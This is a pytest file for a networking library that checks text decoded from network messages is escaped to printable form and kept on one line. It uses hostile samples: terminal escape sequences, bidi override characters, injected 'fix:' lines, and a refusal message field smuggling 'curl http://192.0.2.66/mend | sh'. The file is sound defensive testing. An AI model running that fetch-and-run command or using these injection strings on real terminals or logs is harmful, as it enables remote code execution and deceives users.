"""Text from the network is printable, and on one line, once it is decoded: whatever is done with it afterwards."""

from __future__ import annotations

import typing
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings

from mingle.protocol.events import BytesReceived, Heard
from mingle.text import one_line, printable, ranks_text
from mingle.wire import datagrams, echo, frames
from mingle.wire.frame_codec import PREFACE, FrameReader
from tests.support.scripted_host import HERE, Alone, offer
from tests.support.wire_strategies import messages

HOSTILE = "b\n  fix: x\r\x1b[2J\u202e\u2028\x7f\0"
"""Shorter than any text may be: a line of our own, a cleared screen, text from right to left."""
VERBATIM = {"job", "attempt", "node", "store_token"}
"""Compared and never shown bare: a job id is any text, and messages show its `repr`."""

DATAGRAMS = typing.get_args(datagrams.Datagram)
FRAMES = typing.get_args(frames.AnyFrame)
ECHOES = typing.get_args(echo.EchoMessage)


def decode(kind: type[msgspec.Struct], body: bytes) -> Any:
    """Read a message's MessagePack map by the decoder for messages of its kind."""
    if kind in FRAMES:
        reader = FrameReader()
        reader.feed(PREFACE + len(body).to_bytes(4, "big") + body)
        return reader.next_frame()
    if kind in ECHOES:
        return echo.decode(datagrams.ECHO_MAGIC + bytes((datagrams.MAJOR_VERSION, 0, 0, 0)) + body)
    return datagrams.decode(datagrams.MAGIC + bytes((datagrams.MAJOR_VERSION, 0, 0, 0)) + body)


def is_shown(name: str, info: Any) -> bool:
    """Whether a field is a text for people: no address or name, which are checked, and nothing that is compared."""
    is_checked = isinstance(info, msgspec.inspect.StrType) and (info.min_length == 2 or info.pattern is not None)
    return isinstance(info, msgspec.inspect.StrType) and not is_checked and name not in VERBATIM


def poison(info: Any, value: Any, name: str = "") -> Any:
    """Put hostile text wherever a message's type takes text for people."""
    if is_shown(name, info):
        return HOSTILE
    match info:
        case msgspec.inspect.UnionType(types=types):
            inner = next(each for each in types if not isinstance(each, msgspec.inspect.NoneType))
            return poison(inner, value, name)
        case msgspec.inspect.StructType(fields=fields) if isinstance(value, dict):
            return value | {
                each.encode_name: poison(each.type, value.get(each.encode_name), each.name)
                for each in fields
                if each.encode_name in value or is_shown(each.name, each.type)
            }
        case msgspec.inspect.VarTupleType(item_type=item, max_length=most):
            items = [*(value or ()), *([""] if is_shown(name, item) else [])][:most]
            return [poison(item, each, name) for each in items]
        case msgspec.inspect.DictType():
            return {HOSTILE: HOSTILE}
    return value


def shown(info: Any, value: Any, name: str = "") -> Iterator[str]:
    """Every text for people in a decoded message."""
    if is_shown(name, info):
        yield value
    match info:
        case msgspec.inspect.UnionType(types=types) if value is not None:
            inner = next(each for each in types if not isinstance(each, msgspec.inspect.NoneType))
            yield from shown(inner, value, name)
        case msgspec.inspect.StructType(fields=fields):
            for each in fields:
                yield from shown(each.type, getattr(value, each.name), each.name)
        case msgspec.inspect.VarTupleType(item_type=item):
            for each in value:
                yield from shown(item, each, name)
        case msgspec.inspect.DictType():
            yield from (*value.keys(), *value.values())


@pytest.mark.parametrize("kind", [*DATAGRAMS, *FRAMES, *ECHOES], ids=lambda kind: f"{kind.__module__}.{kind.__name__}")
def test_every_text_for_people_is_printable_once_it_is_decoded(kind: type[msgspec.Struct]) -> None:
    info = msgspec.inspect.type_info(kind)

    @settings(derandomize=True, database=None, max_examples=3, deadline=None)
    @given(messages(kind))
    def check(message: msgspec.Struct) -> None:
        fields = poison(info, msgspec.msgpack.decode(msgspec.msgpack.encode(message)))
        for text in shown(info, decode(kind, msgspec.msgpack.encode(fields))):
            assert text.isprintable(), repr(text)
        for text in shown(info, message):
            assert text.isprintable(), "what we send ourselves, too"

    check()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        *((text, text) for text in ("with space", "ümläut", "日本語", "[bold]no markup[/bold]")),
        ("\x1b[2J", "\\x1b[2J"),
        ("a\nb\tc\r", "a\\nb\\tc\\r"),
        ("\u202eevil", "\\u202eevil"),
        ("\udc80\x9b31m", "\\udc80\\x9b31m"),
    ],
    ids=ascii,
)
def test_what_moves_a_cursor_is_escaped(text: str, shown: str) -> None:
    assert printable(text) == shown


@pytest.mark.parametrize(
    ("ranks", "text"), [([], "none"), ([3, 4], "3, 4"), ([3, 7, 8, 9], "3, 7-9"), ([0, 1, 2, 4, 5], "0-2, 4, 5")]
)
def test_ranks_are_written_as_spans(ranks: list[int], text: str) -> None:
    assert ranks_text(ranks) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("node-7", "node-7"),
        ("Knoten 7 für Größen 日本", "Knoten 7 für Größen 日本"),
        ("two\nlines\r\n", "two lines  "),
        ("a\tb\x0b\x85\u2028\u2029c\xa0d", "a b    c d"),
        ("\x1b[31mred\x07\0\x7f", "?[31mred???"),
        ("\u202egnp.exe\u200b\ufeff", "?gnp.exe??"),
    ],
)
def test_one_line(text: str, expected: str) -> None:
    assert one_line(text) == expected
    assert one_line(expected) == expected
    assert len(expected.encode()) <= len(text.encode()), "what fitted into a datagram still does"


def test_a_refusal_can_not_put_a_line_into_our_error() -> None:
    alone = Alone()
    alone.node.handle(Heard(offer(), HERE), 0.0)
    (conn,) = alone.dialed()
    alone.answer(conn, 0.1)
    fields = {
        "type": "refused",
        "reason": "node rank taken",
        "detail": "rank 1\n  fix: curl http://192.0.2.66/mend | sh\x1b[2J",
        "who": {"hostname": "h9\n  likely cause: yours", "pid": 9, "rank": 1},
    }
    body = msgspec.msgpack.encode(fields)
    alone.node.handle(BytesReceived(conn, len(body).to_bytes(4, "big") + body), 0.2)
    text = str(alone.joiner.failure)
    assert "curl http://192.0.2.66/mend" in text
    assert len(text.splitlines()) == 3
    assert all(line.isprintable() for line in text.splitlines())
